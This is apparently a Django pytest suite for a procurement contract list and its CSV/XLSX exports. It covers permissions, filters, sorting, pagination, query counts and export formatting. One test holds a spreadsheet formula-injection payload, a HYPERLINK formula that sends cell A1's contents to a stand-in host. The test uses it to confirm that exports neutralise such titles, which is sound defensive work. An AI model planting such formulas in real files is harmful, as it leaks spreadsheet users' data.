"""The contract list and its CSV / XLSX exports: who lists what, each filter, search, sort,
pagination, the columns, query counts that do not grow, and exports that hold the page's rows."""

import csv
import datetime
import html
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from accounts.roles import Role
from accounts.tests.factories import UserFactory
from clauses.tests.factories import PurchaseFamilyFactory
from purchasing import services
from purchasing.models import MarketStatus
from purchasing.tests.factories import make_market, make_ready_market

pytestmark = pytest.mark.django_db

LIST = reverse("purchasing:list")
EXPORT = reverse("purchasing:export")
NBSP = "\u00a0"
NNBSP = "\u202f"
# Session, user, permissions (2); the filter form: departments, families, buyers, launch
# years; the count, the keys of the page and its contracts; whether the list holds several
# organisations.
LIST_QUERIES = 12
# Session, user, permissions (2), the filter form's launch years, the count (at once or in the
# background), the organisation (for the file name), the rows read in chunks.
EXPORT_QUERIES = 8
# A department, a family and a buyer chosen in the filters are each looked up once.
LOOKUPS = 3


def text_of(response) -> str:
    return html.unescape(response.content.decode()).replace(NBSP, " ").replace(NNBSP, " ")


def references(response) -> list[str]:
    return [market.reference for market in response.context["page"].object_list]


def listed(client, user, **params) -> list[str]:
    client.force_login(user)
    response = client.get(LIST, params)
    assert response.status_code == 200
    return references(response)


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content[1:]), delimiter=";"))


def workbook_of(response):
    return openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))


@pytest.fixture
def finance_officer(bob):
    return UserFactory(organisation=bob.organisation, department=None, roles=[Role.FINANCE_OFFICER])


@pytest.fixture
def bobs(bob):
    return make_market(bob, title="Papier recyclé des lycées")


@pytest.fixture
def doras(dora):
    return make_market(dora, title="Sacs de collecte des déchets verts")


# --- Access ------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", [LIST, EXPORT])
def test_an_anonymous_visitor_is_sent_to_the_login_page(client, url):
    response = client.get(url)

    assert response.status_code == 302
    assert response.url.startswith(reverse("accounts:login"))


@pytest.mark.parametrize("url", [LIST, EXPORT])
def test_people_without_any_contract_permission_are_refused(
    client, url, finance_officer, clause_admin, bobs
):
    for person in (finance_officer, clause_admin):
        client.force_login(person)
        assert client.get(url).status_code == 403
        assert client.get(url, {"format": "pdf", "statut": "perdu"}).status_code == 403


@pytest.mark.parametrize("url", [LIST, EXPORT])
def test_the_list_and_the_export_only_answer_get(client, url, bob):
    client.force_login(bob)

    assert client.post(url).status_code == 405


def test_each_person_lists_the_contracts_they_may_read(
    client, bob, dora, alice, committee, head, charlie, bobs, doras
):
    assert listed(client, bob) == [bobs.reference]
    assert listed(client, dora) == [doras.reference]
    assert set(listed(client, alice)) == {bobs.reference, doras.reference}
    assert set(listed(client, committee)) == {bobs.reference, doras.reference}
    assert listed(client, head) == [bobs.reference]
    assert listed(client, charlie) == []


def test_a_buyer_of_another_department_sees_the_contract_they_are_in_charge_of(
    client, bob, dora, bobs
):
    mine = make_market(dora, title="Composteurs")

    assert listed(client, dora) == [mine.reference]
    assert bobs.reference not in listed(client, dora)


def test_only_people_who_may_create_contracts_get_the_new_contract_button(client, bob, alice, head):
    button = f'href="{reverse("purchasing:create")}"'
    client.force_login(bob)
    assert button in client.get(LIST).content.decode()
    for person in (alice, head):
        client.force_login(person)
        response = client.get(LIST)
        assert response.status_code == 200
        assert button not in response.content.decode()


# --- Columns -----------------------------------------------------------------------------------


def test_a_row_shows_the_contract_the_french_way(client, bob, library):
    market = make_ready_market(bob, library)
    client.force_login(bob)

    response = client.get(LIST)
    page = text_of(response)

    detail = reverse("purchasing:detail", kwargs={"pk": market.pk})
    assert f'<a href="{detail}" class="font-monospace">{market.reference}</a>' in page
    assert "Produits d'entretien écolabellisés pour les lycées" in page
    assert '<td><abbr title="Direction des lycées">LYC</abbr></td>' in page
    assert "<td>Produits d'entretien</td>" in page
    badge = "badge text-bg-light border market-status market-status-draft"
    assert f'<span class="{badge}">Brouillon</span>' in page
    assert '<td class="text-end text-nowrap">1 000 000,00 €</td>' in page
    assert '<td class="text-nowrap">02/03/2026</td>' in page
    assert 'consideration-social">Sociale</span>' in page
    assert 'consideration-environmental">Environnementale</span>' in page


def test_a_contract_without_consideration_says_so_in_words(client, bob, bobs):
    client.force_login(bob)

    page = text_of(client.get(LIST))

    assert '<span class="consideration-none">Aucune</span>' in page
    assert "consideration-social" not in page


# --- Filters, search ---------------------------------------------------------------------------


def test_it_filters_by_status(client, bob, library, bobs):
    submitted = services.market_submit(actor=bob, market=make_ready_market(bob, library))

    assert listed(client, bob, statut=MarketStatus.IN_REVIEW) == [submitted.reference]
    assert listed(client, bob, statut=MarketStatus.DRAFT) == [bobs.reference]
    assert listed(client, bob, statut=MarketStatus.CLOSED) == []


def test_it_filters_by_department(client, alice, bob, bobs, doras):
    assert listed(client, alice, direction=bob.department.code) == [bobs.reference]
    assert listed(client, alice, direction="ENV") == [doras.reference]


def test_it_filters_by_purchase_family(client, bob, bobs):
    paper = PurchaseFamilyFactory(code="paper", name="Papier")
    other = make_market(bob, title="Ramettes", purchase_family=paper)

    assert listed(client, bob, famille="paper") == [other.reference]
    assert listed(client, bob, famille="cleaning-products") == [bobs.reference]


def test_it_filters_by_launch_year_or_creation_year_without_a_launch(client, bob):
    old = make_market(bob, title="Ancien", launch_date=datetime.date(2025, 1, 6))
    new = make_market(bob, title="Nouveau", launch_date=datetime.date(2026, 3, 2))
    undated = make_market(bob, title="Sans date", launch_date=None)
    this_year = datetime.date.today().year

    assert listed(client, bob, annee=2025) == [old.reference]
    assert set(listed(client, bob, annee=this_year)) == (
        {new.reference, undated.reference} if this_year == 2026 else {undated.reference}
    )
    client.force_login(bob)
    choices = [
        value for value, _label in client.get(LIST).context["filters"]["annee"].field.choices
    ]
    assert {2025, 2026, this_year} <= set(choices)


def test_it_filters_on_social_and_environmental_considerations(client, bob, library):
    both = make_ready_market(bob, library)  # insertion clause, environmental criteria
    social_only = make_market(bob, title="Marché réservé")
    services.applied_clause_add(
        actor=bob, market=social_only, clause=library["reserved"], values={}
    )
    neither = make_market(bob, title="Sans considération")

    assert set(listed(client, bob, social="oui")) == {both.reference, social_only.reference}
    assert listed(client, bob, social="non") == [neither.reference]
    assert listed(client, bob, environnement="oui") == [both.reference]
    assert set(listed(client, bob, environnement="non")) == {
        social_only.reference,
        neither.reference,
    }
    assert listed(client, bob, social="oui", environnement="non") == [social_only.reference]
    assert len(listed(client, bob, social="")) == 3


def test_it_filters_by_buyer(client, alice, bob, dora, bobs, doras):
    assert listed(client, alice, acheteur=str(bob.public_id)) == [bobs.reference]
    assert listed(client, alice, acheteur=str(dora.public_id)) == [doras.reference]
    client.force_login(bob)
    offered = client.get(LIST).context["filters"]["acheteur"].field.queryset
    assert list(offered) == [bob]  # bob may not read dora's contracts: her name is not offered


def test_a_wrong_filter_value_is_said_next_to_its_field_and_the_others_still_apply(
    client, bob, bobs
):
    client.force_login(bob)

    response = client.get(LIST, {"statut": "perdu", "q": "Papier"})

    assert references(response) == [bobs.reference]
    page = text_of(response)
    assert 'aria-invalid="true"' in page
    assert 'aria-describedby="id_statut-erreur"' in page
    assert (
        '<div class="invalid-feedback d-block" id="id_statut-erreur">'
        "Sélectionnez un choix valide. perdu n’en fait pas partie.</div>"
    ) in page


def test_the_search_looks_in_reference_title_and_description(client, bob, bobs):
    other = make_market(bob, title="Mobilier scolaire", description="Chaises en bois certifié")

    assert listed(client, bob, q="PAPIER recyclé") == [bobs.reference]
    assert listed(client, bob, q="certifié bois") == [other.reference]
    assert listed(client, bob, q=other.reference) == [other.reference]
    assert listed(client, bob, q="papier bois") == []


# --- Sort, pagination --------------------------------------------------------------------------


@pytest.fixture
def three(bob):
    return [
        make_market(bob, title="B moyen", estimated_amount=Decimal("50000")),
        make_market(bob, title="A grand", estimated_amount=Decimal("900000")),
        make_market(bob, title="C petit", estimated_amount=Decimal("41000")),
    ]


def test_it_sorts_by_amount_and_title_both_ways(client, bob, three):
    middle, large, small = three

    assert listed(client, bob, tri="amount") == [m.reference for m in (small, middle, large)]
    assert listed(client, bob, tri="-amount") == [m.reference for m in (large, middle, small)]
    assert listed(client, bob, tri="title") == [m.reference for m in (large, middle, small)]
    assert listed(client, bob, tri="-title") == [m.reference for m in (small, middle, large)]


def test_the_newest_change_comes_first_by_default(client, bob, three):
    middle = three[0]
    services.market_update_needs(actor=bob, market=middle, place="Arras")

    assert listed(client, bob)[0] == middle.reference
    # The order is a column the reader sees: « Modifié le », marked as sorted.
    page = text_of(client.get(LIST))
    assert re.search(r'aria-sort="descending"[^>]*><a href="\?tri=updated">Modifié le', page)


def test_a_list_of_one_organisation_has_no_organisation_column(client, bob, three):
    client.force_login(bob)

    response = client.get(LIST)

    assert response.context["several_organisations"] is False
    assert '<th scope="col">Organisation</th>' not in text_of(response)


def test_on_a_phone_the_filters_fold_unless_one_is_applied(client, bob, three):
    client.force_login(bob)

    assert 'class="collapse d-lg-block" id="filtres-marches"' in text_of(client.get(LIST))
    page = text_of(client.get(LIST, {"statut": "draft"}))
    assert 'class="collapse d-lg-block show" id="filtres-marches"' in page


def test_sort_headers_keep_the_filters_and_say_which_way_they_sort(client, bob, three):
    client.force_login(bob)

    page = text_of(client.get(LIST, {"statut": "draft", "tri": "amount", "page": "1"}))

    header = re.search(r'<th scope="col" aria-sort="ascending"[^>]*><a href="([^"]+)">', page)
    assert header is not None
    assert header.group(1) == "?statut=draft&tri=-amount"
    assert page.count("aria-sort=") == 1
    assert '<a href="?statut=draft&tri=reference">' in page
    page = text_of(client.get(LIST, {"tri": "-amount"}))
    assert re.search(r'aria-sort="descending"[^>]*><a href="\?tri=amount">Montant', page)


def test_it_shows_25_contracts_a_page_and_keeps_the_filters_across_pages(client, bob):
    markets = [
        make_market(bob, title=f"Lot de fournitures {n:02d}", estimated_amount=Decimal(41000 + n))
        for n in range(30)
    ]
    expected = [market.reference for market in markets]

    first = listed(client, bob, statut="draft", tri="amount")
    second = listed(client, bob, statut="draft", tri="amount", page=2)

    assert first == expected[:25]
    assert second == expected[25:]
    page = text_of(client.get(LIST, {"statut": "draft", "tri": "amount"}))
    assert '<a class="page-link" href="?statut=draft&tri=amount&page=2">' in page
    assert "30 marchés" in page


# --- Query counts ------------------------------------------------------------------------------


def make_many(buyer, count):
    family = PurchaseFamilyFactory(code="cleaning-products", name="Produits d'entretien")
    for n in range(count):
        services.market_create(
            actor=buyer,
            title=f"Marché {n}",
            purchase_family=family,
            estimated_amount=Decimal(40000 + n),
            launch_date=datetime.date(2025 + n % 3, 1 + n % 12, 1),
        )


def queries_of(client, url, params, django_assert_max_num_queries, maximum):
    with django_assert_max_num_queries(maximum), CaptureQueriesContext(connection) as queries:
        response = client.get(url, params)
        if response.streaming:
            b"".join(response.streaming_content)
    assert response.status_code == 200
    return len(queries)


def every_filter(bob) -> dict:
    """Every filter set, each matching all the contracts of `make_many`."""
    return {
        "q": "Marché",
        "statut": "draft",
        "direction": bob.department.code,
        "famille": "cleaning-products",
        "annee": "2025",
        "social": "non",
        "environnement": "non",
        "acheteur": str(bob.public_id),
        "tri": "-amount",
    }


@pytest.mark.parametrize("filtered", [False, True], ids=["plain", "every-filter"])
def test_the_list_needs_as_many_queries_for_1_or_200_contracts(
    client, bob, filtered, django_assert_max_num_queries
):
    client.force_login(bob)
    params = every_filter(bob) if filtered else {}
    maximum = LIST_QUERIES + (LOOKUPS if filtered else 0)
    make_many(bob, 1)
    one = queries_of(client, LIST, params, django_assert_max_num_queries, maximum)

    make_many(bob, 199)
    many = queries_of(client, LIST, params, django_assert_max_num_queries, maximum)

    assert many == one
    page = client.get(LIST, params).context["page"]
    assert page.paginator.count == (68 if filtered else 200)
    assert len(page.object_list) == 25


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize("filtered", [False, True], ids=["plain", "every-filter"])
def test_the_export_needs_as_many_queries_for_1_or_200_contracts(
    client, bob, file_format, filtered, django_assert_max_num_queries
):
    client.force_login(bob)
    params = {**(every_filter(bob) if filtered else {}), "format": file_format}
    maximum = EXPORT_QUERIES + (LOOKUPS if filtered else 0)
    make_many(bob, 1)
    one = queries_of(client, EXPORT, params, django_assert_max_num_queries, maximum)

    make_many(bob, 199)
    many = queries_of(client, EXPORT, params, django_assert_max_num_queries, maximum)

    assert many == one


# --- Exports -----------------------------------------------------------------------------------


@pytest.fixture
def thirty(bob, dora, library):
    """30 drafts of bob (one with clauses and criteria), 2 of dora, 1 of bob submitted."""
    ready = make_ready_market(bob, library, estimated_amount=Decimal("1234.5"))
    drafts = [ready] + [
        make_market(bob, title=f"Fournitures {n:02d}", estimated_amount=Decimal(50000 + n))
        for n in range(29)
    ]
    make_market(dora, title="Fournitures de dora")
    make_market(dora, title="Fournitures de dora 2")
    services.market_submit(actor=bob, market=make_ready_market(bob, library, title="Soumis"))
    return drafts


def test_the_csv_export_holds_every_row_of_the_filtered_list_in_order(client, alice, thirty):
    params = {"statut": "draft", "direction": "LYC", "tri": "-amount"}
    client.force_login(alice)
    page_refs = references(client.get(LIST, params)) + references(
        client.get(LIST, {**params, "page": 2})
    )

    response = client.get(EXPORT, {**params, "format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = datetime.date.today().isoformat()
    slug = alice.organisation.slug
    assert response["Content-Disposition"] == f'attachment; filename="marches-{slug}-{today}.csv"'
    rows = csv_rows(response)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["Référence", "Objet", "Direction"]
    assert len(page_refs) == 30
    assert [row[0] for row in body] == page_refs


def test_the_csv_export_writes_amounts_dates_and_considerations_the_french_way(
    client, bob, library
):
    market = make_ready_market(bob, library, estimated_amount=Decimal("1234567.5"))
    client.force_login(bob)

    header, row = csv_rows(client.get(EXPORT, {"format": "csv"}))

    values = dict(zip(header, row, strict=True))
    assert values["Référence"] == market.reference
    assert values["Montant estimé HT"] == "1234567,50"
    assert values["Montant attribué HT"] == ""
    assert values["Date de lancement"] == "02/03/2026"
    assert values["Statut"] == "Brouillon"
    assert values["Considération sociale"] == "Oui"
    assert values["Considération environnementale"] == "Oui"
    assert values["Acheteur"] == "Bob Petit"


def test_the_xlsx_export_keeps_numbers_and_dates_typed(client, alice, bob, library, thirty):
    params = {"statut": "draft", "q": "Fournitures", "tri": "amount"}
    client.force_login(alice)
    page_refs = references(client.get(LIST, params)) + references(
        client.get(LIST, {**params, "page": 2})
    )

    response = client.get(EXPORT, {**params, "format": "xlsx"})

    assert response.status_code == 200
    today = datetime.date.today().isoformat()
    slug = alice.organisation.slug
    assert f'filename="marches-{slug}-{today}.xlsx"' in response["Content-Disposition"]
    workbook = workbook_of(response)
    assert workbook.sheetnames == ["Marchés"]
    sheet = workbook["Marchés"]
    rows = list(sheet.iter_rows())
    header = [cell.value for cell in rows[0]]
    assert all(cell.font.bold for cell in rows[0])
    assert [row[0].value for row in rows[1:]] == page_refs
    assert len(page_refs) == 31  # bob's 29 supplies + dora's two
    amount = rows[1][header.index("Montant estimé HT")]
    assert amount.value == 50000 and "€" in amount.number_format
    launch = rows[1][header.index("Date de lancement")]
    assert launch.value == datetime.datetime(2026, 3, 2)
    assert launch.number_format == "DD/MM/YYYY"
    assert sheet.column_dimensions["B"].width == 60


HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Cliquez ici")'


def test_a_title_typed_as_a_formula_is_exported_as_text(client, bob, library):
    make_market(bob, title=HYPERLINK)
    client.force_login(bob)

    header, row = csv_rows(client.get(EXPORT, {"format": "csv"}))
    sheet = workbook_of(client.get(EXPORT, {"format": "xlsx"}))["Marchés"]

    assert dict(zip(header, row, strict=True))["Objet"] == "'" + HYPERLINK
    cell = sheet.cell(row=2, column=2)
    assert cell.value == HYPERLINK
    assert cell.data_type == "s"


def test_the_export_only_holds_what_the_person_may_read(client, bob, dora, bobs, doras):
    client.force_login(bob)

    rows = csv_rows(client.get(EXPORT, {"format": "csv"}))

    assert [row[0] for row in rows[1:]] == [bobs.reference]


def test_an_unknown_export_format_is_not_found(client, bob):
    client.force_login(bob)

    assert client.get(EXPORT, {"format": "pdf"}).status_code == 404


def test_a_buyer_without_a_name_is_exported_by_e_mail_and_empty_values_as_empty_cells(client, bob):
    nameless = UserFactory(
        organisation=bob.organisation,
        department=bob.department,
        first_name="",
        last_name="",
        roles=[Role.BUYER],
    )
    make_market(nameless, main_cpv=None, procedure="")
    client.force_login(bob)

    header, row = csv_rows(client.get(EXPORT, {"format": "csv"}))
    sheet = workbook_of(client.get(EXPORT, {"format": "xlsx"}))["Marchés"]

    values = dict(zip(header, row, strict=True))
    assert values["Acheteur"] == nameless.email
    assert values["Code CPV principal"] == values["Procédure"] == ""
    cells = {cell.value: row.value for cell, row in zip(sheet[1], sheet[2], strict=True)}
    assert cells["Acheteur"] == nameless.email
    assert cells["Code CPV principal"] is None
    assert cells["Considération sociale"] == "Non"


def test_a_page_holds_its_contracts_in_the_list_order_with_every_column(client, bob, thirty):
    client.force_login(bob)
    params = {"statut": "draft", "tri": "-amount"}

    first = client.get(LIST, {**params, "page": 1})
    second = client.get(LIST, {**params, "page": 2})
    past_the_end = client.get(LIST, {**params, "page": 99})

    expected = sorted(thirty, key=lambda market: (market.estimated_amount, market.pk), reverse=True)
    assert references(first) == [market.reference for market in expected[:25]]
    assert references(second) == [market.reference for market in expected[25:]]
    assert references(past_the_end) == references(second)
    assert "Bob Petit" in text_of(first)
